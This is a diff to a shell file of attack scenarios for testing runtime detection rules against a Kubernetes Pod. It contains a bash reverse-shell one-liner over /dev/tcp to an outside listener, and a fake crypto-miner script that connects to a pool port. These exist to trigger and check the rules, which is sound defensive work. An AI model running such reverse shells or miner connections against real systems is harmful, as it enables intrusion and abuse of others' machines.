@@ -1,5 +1,5 @@
 # The stories, one function each; sourced by record.sh. Each runs while saker-capture records the
-# Pod's cgroup; README.md tells each story and expected.json what the rules find in it.
+# Pod's cgroup; README.md tells each story and expected.yaml what the rules find in it.
 
 # The Falco tutorial: someone opens a shell in the Pod as `kubectl exec -it` does, installs curl and
 # fetches a page. The Pod has no way out, so apt and curl fail to resolve names; what they do
@@ -13,7 +13,7 @@ scenario_tutorial() {
 scenario_reverse_shell() {
     { sleep 1; printf 'id\nuname -a\nexit\n'; sleep 2; } | outside timeout 10 ncat -l "$OUTSIDE_IP" 4444 >/dev/null &
     local listener=$!
-    sleep 0.5
+    outside_listening 4444
     pod_exec /bin/bash -c "bash -i >& /dev/tcp/$OUTSIDE_IP/4444 0>&1" 2>/dev/null || true
     wait "$listener" || true
 }
@@ -40,6 +40,7 @@ scenario_nsenter_escape() {
 scenario_miner() {
     { sleep 6; } | outside timeout 12 ncat -l "$OUTSIDE_IP" 3333 >/dev/null &
     local pool=$!
+    outside_listening 3333
     pod_exec_typing /bin/bash \
         "printf '#!/bin/bash\\nexec 3<>/dev/tcp/$OUTSIDE_IP/3333\\necho mining.subscribe >&3\\n' > /tmp/xmrig" \
         'chmod +x /tmp/xmrig' \
